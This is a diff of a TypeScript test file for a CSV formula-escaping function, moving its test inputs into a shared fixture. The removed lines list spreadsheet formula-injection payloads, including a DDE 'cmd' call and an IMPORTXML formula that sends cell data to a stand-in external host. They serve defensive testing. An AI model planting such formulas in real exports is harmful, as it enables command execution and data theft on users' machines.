@@ -2,6 +2,7 @@ import { parse } from 'csv-parse/sync';
 import { setFlagsFromString } from 'node:v8';
 import { runInNewContext } from 'node:vm';
 import { describe, expect, test } from 'vitest';
+import { FORMULAS } from '#test/document/formula-corpus.fixtures.ts';
 import type { CsvColumn } from './csv-column.ts';
 import { escapeCsvFormula } from './escape-csv-formula.ts';
 import { readInBatches } from './read-in-batches.ts';
@@ -24,20 +25,6 @@ function heldBytes(): number {
 const text: CsvColumn<string> = { header: 'Text', type: 'text', value: (row) => row };
 const ZONE = 'Asia/Singapore';
 
-const STARTS = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
-const BEFORE = ['', ' ', '   ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\n', '\u202e'];
-const FORMULAS = [
-  ...STARTS.flatMap((start) => BEFORE.map((before) => `${before}${start}1+1`)),
-  '=HYPERLINK("http://evil.example","Click")',
-  "=cmd|'/C calc'!A0",
-  '@SUM(1+1)*cmd|...',
-  '-2+3+cmd|x!A0',
-  '+6591234567',
-  '=IMPORTXML(CONCAT("http://a.example/?",A1),"//a")',
-  '\t=1+1',
-  '-',
-  '=',
-];
 const HARMLESS = [
   '',
   'Nguyễn Thị Ánh Tuyết',
